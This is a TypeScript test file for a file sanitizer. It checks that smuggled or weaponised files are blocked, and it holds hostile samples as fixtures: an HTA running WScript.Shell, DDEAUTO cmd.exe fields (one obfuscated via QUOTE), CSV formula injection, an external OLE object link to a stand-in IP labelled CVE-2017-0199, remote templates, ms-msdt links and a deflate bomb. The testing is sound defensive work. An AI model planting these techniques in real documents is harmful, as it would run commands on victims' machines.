/**
 * The fail-open cases of issue 15, each as the engineer meets it: a file built the way
 * attackers build them today goes through the content analysis and the verdict with the
 * default policy and a clean anti-virus answer, and must come out blocked with a reason that
 * says what and where, in Japanese and in English. Then the walkers' own edge cases (TAR
 * headers, DICOM data sets) and the rules that must not block ordinary files.
 */
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import zlib from 'node:zlib';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { analyzeFile } from '../../electron/core/sanitize/analyze/analyze-file';
import { relationshipFinding } from '../../electron/core/sanitize/analyze/ooxml-scan';
import { isFormulaCell } from '../../electron/core/sanitize/analyze/text-active-content';
import { decideVerdict } from '../../electron/core/sanitize/decide-verdict';
import { DEFAULT_SANITIZE_POLICY } from '../../electron/core/sanitize/sanitize-policy';
import type { ContentAnalysis, Verdict } from '../../electron/core/sanitize/sanitize-types';
import { findingText } from '../../electron/shared/sanitize-texts';
import {
  PDFS,
  biffGlobals,
  compoundFile,
  dicom,
  dicomElement,
  dicomEncapsulatedPdf,
  dicomOf,
  isoImage,
  olePackage,
  oneNote,
  ooxml,
  portableExecutable,
  powerPointHyperlink,
  powerPointRunProgram,
  powerPointWithMacros,
  powerPointWithObject,
  randomBinary,
  relsPart,
  shortcut,
  supBook,
  tarOf,
  wordWithField,
  wordWithTemplate,
  zipOf,
} from '../support/sanitize-corpus';

let dir: string;

beforeAll(async () => {
  dir = await mkdtemp(path.join(os.tmpdir(), 'fieldguard-smuggling-'));
});
afterAll(async () => {
  await rm(dir, { recursive: true, force: true });
});

async function analyzeBytes(name: string, data: Buffer | string): Promise<ContentAnalysis> {
  const file = path.join(dir, `${Math.random().toString(36).slice(2)}-${name}`);
  await writeFile(file, data);
  return analyzeFile(file, name);
}

/** The verdict and the reasons as the report and the CLI show them, in both languages. */
async function judge(name: string, data: Buffer | string): Promise<{ verdict: Verdict; ja: string[]; en: string[] }> {
  const analysis = await analyzeBytes(name, data);
  const decision = decideVerdict(analysis, { status: 'clean' }, 'ClamAV', '0'.repeat(64), DEFAULT_SANITIZE_POLICY);
  return {
    verdict: decision.verdict,
    ja: decision.findings.map((f) => findingText(f, 'ja')),
    en: decision.findings.map((f) => findingText(f, 'en')),
  };
}

const HTA = '<html><head><HTA:APPLICATION ID="x"/><script>new ActiveXObject("WScript.Shell").Run("calc")</script></head></html>';

describe('every file inside an archive is judged like a file on disk', () => {
  it('blocks a zip holding an ISO with .hta, .js and .lnk inside, naming the ISO', async () => {
    const iso = isoImage([
      { name: 'invoice.hta', data: HTA },
      { name: 'run.js', data: 'WScript.Echo(1);' },
      { name: 'invoice.pdf.lnk', data: shortcut() },
    ]);
    const result = await judge('delivery.zip', await zipOf([{ name: 'docs/invoice.iso', data: iso }]));
    expect(result.verdict).toBe('blocked');
    expect(result.en).toContain('ISO disk image: cannot be inspected, not handed over（docs/invoice.iso）');
    expect(result.ja).toContain('ISO disk image：中身を検査できないため引き渡し不可（docs/invoice.iso）');
    expect(result.en).toContain('A type not allowed to be handed over (iso)（docs/invoice.iso）');
  });

  it('walks a .tar inside a zip and blocks its scripts by their paths', async () => {
    const tar = tarOf([
      { name: 'tools/run.ps1', data: "Write-Host 'x'\n" },
      { name: 'tools/update.hta', data: HTA },
      { name: 'tools/readme.txt', data: 'read me\n' },
    ]);
    const result = await judge('tools.zip', await zipOf([{ name: 'scripts.tar', data: tar }]));
    expect(result.verdict).toBe('blocked');
    expect(result.en).toEqual(
      expect.arrayContaining([
        'A script (powershell)（scripts.tar/tools/run.ps1）',
        'A script (hta)（scripts.tar/tools/update.hta）',
        'A type not allowed to be handed over (tar)（scripts.tar）',
      ]),
    );
    expect(result.en.some((text) => text.includes('readme.txt'))).toBe(false);
  });

  it('blocks a zip holding a OneNote file, a phishing page or a binary of no known format', async () => {
    const one = await judge('notes.zip', await zipOf([{ name: 'Invoice.one', data: oneNote(HTA) }]));
    expect(one).toMatchObject({ verdict: 'blocked' });
    expect(one.en).toContain('OneNote document: cannot be inspected, not handed over（Invoice.one）');
    const page =
      '<!DOCTYPE html><html><body><form action="https://login.example.invalid/"><input type="password" name="p"></form></body></html>';
    const phishing = await judge('login.zip', await zipOf([{ name: 'Microsoft365.html', data: page }]));
    expect(phishing).toEqual({
      verdict: 'blocked',
      en: ['A type not allowed to be handed over (html)（Microsoft365.html）'],
      ja: ['引き渡しが許可されていない種類（html）（Microsoft365.html）'],
    });
    const binary = await judge('update.zip', await zipOf([{ name: 'update.dat', data: randomBinary() }]));
    expect(binary).toMatchObject({ verdict: 'blocked', en: ['A type not allowed to be handed over (unknown)（update.dat）'] });
  });

  it('names the member path at any depth: a tar in a gzip in a zip', async () => {
    const tgz = zlib.gzipSync(
      tarOf([
        { name: 'pack/notes.one', data: oneNote('x') },
        { name: 'pack/log.txt', data: 'ok\n' },
      ]),
    );
    const analysis = await analyzeBytes('outer.zip', await zipOf([{ name: 'logs.tgz', data: tgz }]));
    expect(analysis.members).toEqual([
      { entry: 'logs.tgz', type: 'gz' },
      { entry: 'logs.tgz/logs.tar', type: 'tar' },
      { entry: 'logs.tgz/logs.tar/pack/notes.one', type: 'one' },
      { entry: 'logs.tgz/logs.tar/pack/log.txt', type: 'txt' },
    ]);
    expect(analysis.findings).toEqual([
      { code: 'CONTAINER_NOT_INSPECTABLE', params: { format: 'OneNote document' }, entry: 'logs.tgz/logs.tar/pack/notes.one' },
    ]);
  });

  it('still passes a zip of allowed, clean files (and legacy Office without macros)', async () => {
    const doc = compoundFile({ '/WordDocument': Buffer.alloc(512), '/1Table': Buffer.alloc(64) });
    const result = await judge(
      'clean.zip',
      await zipOf([
        { name: 'report.pdf', data: PDFS['clean.pdf']!.bytes() },
        { name: 'IM0001.dcm', data: dicom() },
        { name: 'old/report.doc', data: doc },
        { name: 'log.txt', data: 'ok\n' },
      ]),
    );
    expect(result).toEqual({ verdict: 'passed', en: [], ja: [] });
  });
});

describe('legacy Office under the default policy', () => {
  it('passes .doc, .xls and .ppt without macros and blocks them with macros', async () => {
    expect((await judge('clean.doc', compoundFile({ '/WordDocument': Buffer.alloc(512) }))).verdict).toBe('passed');
    expect((await judge('slides.ppt', powerPointWithMacros(false))).verdict).toBe('passed');
    expect(await judge('slides.ppt', powerPointWithMacros(true))).toEqual({
      verdict: 'blocked',
      en: ['An Office document with macros'],
      ja: ['マクロを含む Office 文書'],
    });
    const macroDoc = compoundFile({ '/WordDocument': Buffer.alloc(512), '/Macros/VBA/_VBA_PROJECT': 'x' });
    expect((await judge('macro.doc', macroDoc)).verdict).toBe('blocked');
  });

  it('blocks what a legacy document runs or fetches: DDE fields, DDE and workbook links, embedded objects, program actions', async () => {
    expect(await judge('memo.doc', wordWithField('DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc"'))).toEqual({
      verdict: 'blocked',
      en: ['An Office document with DDE (runs commands) (WordDocument)'],
      ja: ['DDE（コマンド実行）を含む Office 文書（WordDocument）'],
    });
    expect((await judge('memo.doc', wordWithField('PAGE \\* MERGEFORMAT'))).verdict).toBe('passed');
    expect(await judge('memo.doc', wordWithTemplate('https://templates.example.invalid/n.dotm'))).toEqual({
      verdict: 'blocked',
      en: ['An Office document that loads a remote template (https://templates.example.invalid/n.dotm)'],
      ja: ['外部のテンプレートを読み込む Office 文書（https://templates.example.invalid/n.dotm）'],
    });
    expect((await judge('book.xls', compoundFile({ '/Workbook': biffGlobals([[0x01ae, supBook(0, 'cmd\u0003/c calc')]]) }))).en).toEqual([
      'An Office document with DDE (runs commands) (Workbook)',
    ]);
    const linked = await judge(
      'book.xls',
      compoundFile({ '/Workbook': biffGlobals([[0x01ae, supBook(2, '\u0001\\\\server\\share\\budget.xls')]]) }),
    );
    expect(linked.en).toEqual(['An Office document that loads content from outside (externalWorkbook: \\\\server\\share\\budget.xls)']);
    expect((await judge('slides.ppt', powerPointWithObject(olePackage('invoice.hta', HTA)))).en).toEqual([
      'An Office document with embedded objects',
    ]);
    expect((await judge('slides.ppt', powerPointRunProgram())).en).toEqual([
      'An Office document with a link that starts a program or opens a local file (ppaction://program)',
    ]);
    expect((await judge('slides.ppt', powerPointHyperlink('\\\\files.example.invalid\\tools\\update.exe'))).en).toEqual([
      'An Office document with a link that starts a program or opens a local file (\\\\files.example.invalid\\tools\\update.exe)',
    ]);
    expect((await judge('slides.ppt', powerPointHyperlink('https://www.example.com/manual'))).verdict).toBe('passed');
  });
});

describe('active content that used to pass', () => {
  const rels = (part: string, relationships: Parameters<typeof relsPart>[0]) => ({ name: part, data: relsPart(relationships) });

  it('finds an OLE Package holding an .hta under any part name', async () => {
    const docx = await ooxml('docx', [{ name: 'word/media/image7.png', data: olePackage('invoice.hta', HTA) }]);
    expect(await analyzeBytes('report.docx', docx)).toMatchObject({
      findings: [{ code: 'OFFICE_EMBEDDED_OBJECT', params: { part: 'word/media/image7.png' } }],
    });
    expect((await judge('report.docx', docx)).verdict).toBe('blocked');
  });

  it('finds an executable stored as a package part', async () => {
    const docx = await ooxml('docx', [{ name: 'word/fonts/font1.odttf', data: portableExecutable() }]);
    expect((await analyzeBytes('report.docx', docx)).findings).toContainEqual({
      code: 'EXECUTABLE',
      params: { format: 'PE' },
      entry: 'word/fonts/font1.odttf',
    });
  });

  it('names the target of an external OLE link, a remote template and a program link', async () => {
    const ole = await judge(
      'cve-2017-0199.docx',
      await ooxml('docx', [
        rels('word/_rels/document.xml.rels', [{ id: 'rId9', type: 'oleObject', target: 'http://203.0.113.7/x.rtf', external: true }]),
      ]),
    );
    expect(ole).toEqual({
      verdict: 'blocked',
      en: ['An Office document that loads an object from outside (http://203.0.113.7/x.rtf)'],
      ja: ['外部からオブジェクトを読み込む Office 文書（http://203.0.113.7/x.rtf）'],
    });
    const template = await judge(
      'letter.docx',
      await ooxml('docx', [
        rels('word/_rels/settings.xml.rels', [
          { id: 'rId1', type: 'attachedTemplate', target: '\\\\198.51.100.4\\t\\normal.dotm', external: true },
        ]),
      ]),
    );
    expect(template.en).toEqual(['An Office document that loads a remote template (\\\\198.51.100.4\\t\\normal.dotm)']);
    const slide = '<p:sld xmlns:p="urn:p" xmlns:a="urn:a"><a:hlinkClick r:id="rId2" action="ppaction://program"/></p:sld>';
    const pptx = await analyzeBytes('show.pptx', await ooxml('pptx', [{ name: 'ppt/slides/slide1.xml', data: slide }]));
    expect(pptx.findings).toEqual([
      { code: 'OFFICE_DANGEROUS_LINK', params: { part: 'ppt/slides/slide1.xml', target: 'ppaction://program' } },
    ]);
  });

  it('judges each relationship by its type, mode and target', () => {
    const rel = (type: string, target: string, external = true) =>
      `<Relationship Id="r" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}"${external ? ' TargetMode="External"' : ''}/>`;
    const part = 'word/_rels/document.xml.rels';
    expect(relationshipFinding(rel('hyperlink', 'https://www.example.com/a?b=1&amp;c=2'), part)).toBeNull();
    expect(relationshipFinding(rel('hyperlink', 'mailto:service@example.com'), part)).toBeNull();
    expect(relationshipFinding(rel('image', 'media/image1.png', false), part)).toBeNull();
    expect(relationshipFinding(rel('hyperlink', 'file:///C:/Windows/System32/calc.exe'), part)).toMatchObject({
      code: 'OFFICE_DANGEROUS_LINK',
    });
    expect(relationshipFinding(rel('hyperlink', 'ms-msdt:/id PCWDiagnostic'), part)).toMatchObject({ code: 'OFFICE_DANGEROUS_LINK' });
    expect(relationshipFinding(rel('hyperlink', '..\\tools\\update.exe'), part)).toMatchObject({ code: 'OFFICE_DANGEROUS_LINK' });
    expect(relationshipFinding(rel('frame', 'https://x.example/frame.html'), part)).toEqual({
      code: 'OFFICE_EXTERNAL_RELATIONSHIP',
      params: { part, relationship: 'frame', target: 'https://x.example/frame.html' },
    });
    expect(relationshipFinding(rel('aFChunk', 'chunk.mht', false), part)).toEqual({ code: 'OFFICE_ALTCHUNK', params: { part } });
    expect(
      relationshipFinding(
        `<Relationship TargetMode='External' Target='http://h/x.rtf' Type='http://schemas.openxmlformats.org/officeDocument/2006/relationships/oleObject' Id='r'/>`,
        part,
      ),
    ).toMatchObject({ code: 'OFFICE_EXTERNAL_OBJECT' });
    expect(
      relationshipFinding(rel('hyperlink', `https://x.example/${'a'.repeat(500)}`.replace('https', 'file')), part)?.params.target,
    ).toHaveLength(201);
  });

  it('finds DDE fields split over runs, and DDE in a workbook', async () => {
    const body =
      '<w:document xmlns:w="urn:w"><w:body><w:p><w:r><w:instrText> DD</w:instrText></w:r><w:r><w:instrText>EAUTO c:\\windows\\system32\\cmd.exe "/k calc"</w:instrText></w:r></w:p></w:body></w:document>';
    expect(await judge('memo.docx', await ooxml('docx', [{ name: 'word/document.xml', data: body }]))).toEqual({
      verdict: 'blocked',
      en: ['An Office document with DDE (runs commands) (word/document.xml)'],
      ja: ['DDE（コマンド実行）を含む Office 文書（word/document.xml）'],
    });
    const sheet =
      "<worksheet><sheetData><row><c><f>MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''</f></c></row></sheetData></worksheet>";
    expect((await analyzeBytes('book.xlsx', await ooxml('xlsx', [{ name: 'xl/worksheets/sheet1.xml', data: sheet }]))).findings).toEqual([
      { code: 'OFFICE_DDE', params: { part: 'xl/worksheets/sheet1.xml' } },
    ]);
    // The instruction spelled by a nested QUOTE field (68 68 69 65 85 84 79 = "DDEAUTO").
    const quoted =
      '<w:document xmlns:w="urn:w"><w:body><w:p><w:r><w:instrText> </w:instrText></w:r><w:r><w:instrText>QUOTE 68 68 69 65 85 84 79</w:instrText></w:r><w:r><w:instrText> "c:\\windows\\system32\\cmd.exe" "/k calc"</w:instrText></w:r></w:p></w:body></w:document>';
    expect((await analyzeBytes('memo.docx', await ooxml('docx', [{ name: 'word/document.xml', data: quoted }]))).findings).toEqual([
      { code: 'OFFICE_DDE', params: { part: 'word/document.xml' } },
    ]);
    const quotedText =
      '<w:document xmlns:w="urn:w"><w:body><w:p><w:r><w:instrText>QUOTE 83 101 114 118 105 99 101</w:instrText></w:r></w:p></w:body></w:document>';
    expect((await analyzeBytes('memo.docx', await ooxml('docx', [{ name: 'word/document.xml', data: quotedText }]))).findings).toEqual([]);
    const ordinary = '<worksheet><sheetData><row><c><f>SUM(A1:A9)&amp;"|"&amp;B1</f></c></row></sheetData></worksheet>';
    expect((await analyzeBytes('book.xlsx', await ooxml('xlsx', [{ name: 'xl/worksheets/sheet1.xml', data: ordinary }]))).findings).toEqual(
      [],
    );
  });

  it('never takes an RTF for text, whatever its name', async () => {
    const rtf = '{\\rtf1\\ansi{\\object\\objemb{\\*\\objclass Package}{\\*\\objdata 01050000020000000800}}}';
    const result = await judge('notes.txt', rtf);
    expect(result.verdict).toBe('blocked');
    expect(result.en).toEqual(expect.arrayContaining(['An RTF document with embedded objects', 'Named .txt but is really rtf']));
  });

  it('finds an XHTML script and a remote stylesheet in XML', async () => {
    const script = await judge(
      'data.xml',
      '<?xml version="1.0"?><r xmlns:x="http://www.w3.org/1999/xhtml"><x:script>alert(1)</x:script></r>',
    );
    expect(script).toEqual({ verdict: 'blocked', en: ['An XML file with scripts'], ja: ['スクリプトを含む XML ファイル'] });
    const stylesheet = await judge(
      'data.xml',
      '<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="http://xsl.example.invalid/x.xsl"?><r/>',
    );
    expect(stylesheet.en).toEqual(['An XML file that loads a stylesheet from outside (http://xsl.example.invalid/x.xsl)']);
  });

  it('finds formula injection in CSV and leaves signed numbers alone', async () => {
    const result = await judge('export.csv', "device,result\nCT-7,=cmd|' /C calc'!A0\n");
    expect(result).toEqual({
      verdict: 'blocked',
      en: ['A CSV file with cells a spreadsheet would run as formulas (formula injection)'],
      ja: ['表計算ソフトが数式として実行するセルを含む CSV（数式インジェクション）'],
    });
    for (const cell of ['=1+1', '@SUM(A1)', '+HYPERLINK("http://x")', "-2+3+cmd|'/C calc'!A0", '\t=1', '\r=A1', '"=cmd|x!A0"'])
      expect(isFormulaCell(cell), cell).toBe(true);
    for (const cell of ['-5', '+3', '+81-3-1234-5678', '-', '=', '2024-01-01', '@', 'a=b', '-3.5e4'])
      expect(isFormulaCell(cell), cell).toBe(false);
  });

  it('finds XFA in a PDF', async () => {
    expect(await judge('form.pdf', PDFS['xfa.pdf']!.bytes())).toEqual({
      verdict: 'blocked',
      en: ['A PDF with an XFA form (can carry scripts)'],
      ja: ['XFA フォームを含む PDF（スクリプトを含み得る）'],
    });
  });

  it('scans the PDF inside a DICOM Encapsulated PDF like a PDF', async () => {
    const result = await judge('report.dcm', dicomEncapsulatedPdf(PDFS['object-stream.pdf']!.bytes()));
    expect(result.verdict).toBe('blocked');
    expect(result.en).toEqual(
      expect.arrayContaining(['A PDF with JavaScript（(0042,0011)）', 'A PDF that acts on opening (OpenAction / AA)（(0042,0011)）']),
    );
    expect(await judge('report.dcm', dicomEncapsulatedPdf(PDFS['clean.pdf']!.bytes()))).toEqual({ verdict: 'passed', en: [], ja: [] });
  });

  it('flags data after the DICOM data set, at the top level and inside a zip', async () => {
    const study = dicom();
    const appended = Buffer.concat([study, await zipOf([{ name: 'run.js', data: 'WScript.Echo(1);' }])]);
    expect(await judge('IM0001.dcm', appended)).toEqual({
      verdict: 'blocked',
      en: [`Data after the DICOM data set (from byte ${study.length})`],
      ja: [`DICOM データセットの後ろに付け足されたデータ（${study.length} バイト目から）`],
    });
    const zipped = await analyzeBytes('study.zip', await zipOf([{ name: 'IM0001.dcm', data: appended }]));
    expect(zipped.findings).toEqual([{ code: 'DICOM_TRAILING_DATA', params: { offset: study.length }, entry: 'IM0001.dcm' }]);
  });
});

describe('the DICOM data set walk', () => {
  const implicit = (group: number, element: number, value: Buffer) => {
    const header = Buffer.alloc(8);
    header.writeUInt16LE(group, 0);
    header.writeUInt16LE(element, 2);
    header.writeUInt32LE(value.length, 4);
    return Buffer.concat([header, value]);
  };
  const item = (body: Buffer, defined: boolean) => {
    const header = Buffer.from(defined ? 'feff00e000000000' : 'feff00e0ffffffff', 'hex');
    if (defined) header.writeUInt32LE(body.length, 4);
    return Buffer.concat([header, body, defined ? Buffer.alloc(0) : Buffer.from('feff0de000000000', 'hex')]);
  };
  const SEQUENCE_END = Buffer.from('feffdde000000000', 'hex');

  it('walks undefined-length sequences and encapsulated pixel data to the end of the file', async () => {
    const sequence = Buffer.concat([
      Buffer.from('0800', 'hex'),
      Buffer.from('1511', 'hex'),
      Buffer.from('SQ\0\0', 'latin1'),
      Buffer.from('ffffffff', 'hex'),
      item(dicomElement(0x0008, 0x1150, 'UI', '1.2.3\0'), false),
      item(dicomElement(0x0008, 0x1155, 'UI', '1.2.4\0'), true),
      SEQUENCE_END,
    ]);
    const pixels = Buffer.concat([
      Buffer.from('e07f1000', 'hex'),
      Buffer.from('OB\0\0', 'latin1'),
      Buffer.from('ffffffff', 'hex'),
      item(Buffer.alloc(0), true),
      item(Buffer.alloc(100, 0xab), true),
      SEQUENCE_END,
    ]);
    // A private sequence written as UN: its items are in implicit VR whatever the transfer syntax.
    const privateSequence = Buffer.concat([
      Buffer.from('09001010', 'hex'),
      Buffer.from('UN\0\0', 'latin1'),
      Buffer.from('ffffffff', 'hex'),
      item(implicit(0x0009, 0x1011, Buffer.from('VENDOR')), false),
      SEQUENCE_END,
    ]);
    const file = dicomOf([
      dicomElement(0x0008, 0x0016, 'UI', '1.2.840.10008.5.1.4.1.1.7\0'),
      sequence,
      privateSequence,
      dicomElement(0x0010, 0x0010, 'PN', 'Anon'),
      pixels,
    ]);
    expect(await analyzeBytes('seq.dcm', file)).toMatchObject({ type: { id: 'dicom' }, findings: [] });
    expect((await analyzeBytes('seq.dcm', Buffer.concat([file, Buffer.from('PK\x03\x04junk')]))).findings).toEqual([
      { code: 'DICOM_TRAILING_DATA', params: { offset: file.length } },
    ]);
  });

  it('reads implicit VR little endian data sets, and finds what follows them', async () => {
    const meta = dicomElement(0x0002, 0x0010, 'UI', '1.2.840.10008.1.2\0');
    const body = Buffer.concat([implicit(0x0010, 0x0010, Buffer.from('Anon')), implicit(0x7fe0, 0x0010, Buffer.alloc(64))]);
    const file = Buffer.concat([Buffer.alloc(128), Buffer.from('DICM'), meta, body]);
    expect((await analyzeBytes('implicit.dcm', file)).findings).toEqual([]);
    // Zeros after the data set read as a tag (0000,0000) that goes back: not part of it.
    expect((await analyzeBytes('implicit.dcm', Buffer.concat([file, Buffer.alloc(600)]))).findings).toEqual([
      { code: 'DICOM_TRAILING_DATA', params: { offset: file.length } },
    ]);
  });

  it('inflates a deflated data set to find its Encapsulated PDF, what follows the deflate stream, and damage', async () => {
    const deflated = (elements: readonly Buffer[], after: Buffer = Buffer.alloc(0)) => {
      const head = Buffer.concat([Buffer.alloc(128), Buffer.from('DICM'), dicomElement(0x0002, 0x0010, 'UI', '1.2.840.10008.1.2.1.99')]);
      return { head, file: Buffer.concat([head, zlib.deflateRawSync(Buffer.concat(elements)), after]) };
    };
    const patient = dicomElement(0x0010, 0x0010, 'PN', 'Anon^Patient');
    const pdf = (bytes: Buffer) => dicomElement(0x0042, 0x0011, 'OB', bytes.length % 2 ? Buffer.concat([bytes, Buffer.alloc(1)]) : bytes);
    expect(
      await analyzeBytes('deflated.dcm', deflated([patient, dicomElement(0x7fe0, 0x0010, 'OW', Buffer.alloc(4096))]).file),
    ).toMatchObject({ type: { id: 'dicom' }, findings: [] });
    const withPdf = await analyzeBytes('deflated.dcm', deflated([patient, pdf(PDFS['javascript.pdf']!.bytes())]).file);
    expect(withPdf).toMatchObject({ findings: [{ code: 'PDF_JAVASCRIPT', entry: '(0042,0011)' }], innerTypes: ['pdf'] });
    const stream = zlib.deflateRawSync(patient);
    const { head, file } = deflated([patient], await zipOf([{ name: 'run.js', data: 'x' }]));
    expect((await analyzeBytes('deflated.dcm', file)).findings).toEqual([
      { code: 'DICOM_TRAILING_DATA', params: { offset: head.length + stream.length } },
    ]);
    expect((await analyzeBytes('deflated.dcm', deflated([patient, Buffer.from('garbage!')]).file)).findings).toEqual([
      { code: 'UNREADABLE' },
    ]);
    // A deflate bomb in a data set is charged like an archive entry.
    const bomb = deflated([patient, dicomElement(0x7fe0, 0x0010, 'OW', Buffer.alloc(64 * 1024 * 1024))]).file;
    expect((await analyzeBytes('bomb.dcm', bomb)).findings).toEqual([{ code: 'ARCHIVE_RATIO', params: { limit: 100 } }]);
  });

  it('reports an element that claims more bytes than the file has', async () => {
    const study = dicom();
    const cut = study.subarray(0, study.length - 10);
    const pixelsAt = study.length - 64 - 12;
    expect((await analyzeBytes('cut.dcm', cut)).findings).toEqual([{ code: 'DICOM_TRAILING_DATA', params: { offset: pixelsAt } }]);
  });
});

describe('the TAR walk', () => {
  it('uses pax and GNU long names, and reports links, devices, a cut entry and data after the end', async () => {
    const longName = `${'deep/'.repeat(30)}tool.exe`;
    // A pax record counts its own length digits: "<n> path=<name>\n" is n bytes long.
    const record = ` path=${longName}\n`;
    const digits = String(record.length + 3).length;
    const pax = `${record.length + digits}${record}`;
    const withPax = tarOf([
      { name: 'PaxHeaders/x', type: 'x', data: pax },
      { name: 'short', data: portableExecutable() },
    ]);
    expect((await analyzeBytes('pax.tar', withPax)).findings).toContainEqual({
      code: 'EXECUTABLE',
      params: { format: 'PE' },
      entry: longName,
    });
    const gnu = tarOf([
      { name: '././@LongLink', type: 'L', data: `${longName}\0` },
      { name: 'short', data: portableExecutable() },
    ]);
    expect((await analyzeBytes('gnu.tar', gnu)).findings).toContainEqual({ code: 'EXECUTABLE', params: { format: 'PE' }, entry: longName });
    expect(
      (
        await analyzeBytes(
          'dev.tar',
          tarOf([
            { name: 'sda', type: '4' },
            { name: 'link', type: '1', linkname: 'sda' },
          ]),
        )
      ).findings,
    ).toEqual([
      { code: 'NOT_A_REGULAR_FILE', entry: 'sda' },
      { code: 'ARCHIVE_LINK', entry: 'link' },
    ]);
    const whole = tarOf([{ name: 'log.txt', data: 'x'.repeat(2000) }]);
    expect((await analyzeBytes('cut.tar', whole.subarray(0, 1200))).findings).toEqual([{ code: 'ARCHIVE_CORRUPT', entry: 'log.txt' }]);
    expect((await analyzeBytes('hidden.tar', Buffer.concat([whole, tarOf([{ name: 'run.js', data: 'x' }])]))).findings).toEqual([
      { code: 'ARCHIVE_CORRUPT' },
    ]);
    const broken = Buffer.from(whole);
    broken[0] = 0x41; // the checksum no longer matches
    expect((await analyzeBytes('broken.tar', broken)).findings).toEqual([{ code: 'ARCHIVE_CORRUPT' }]);
  });
});
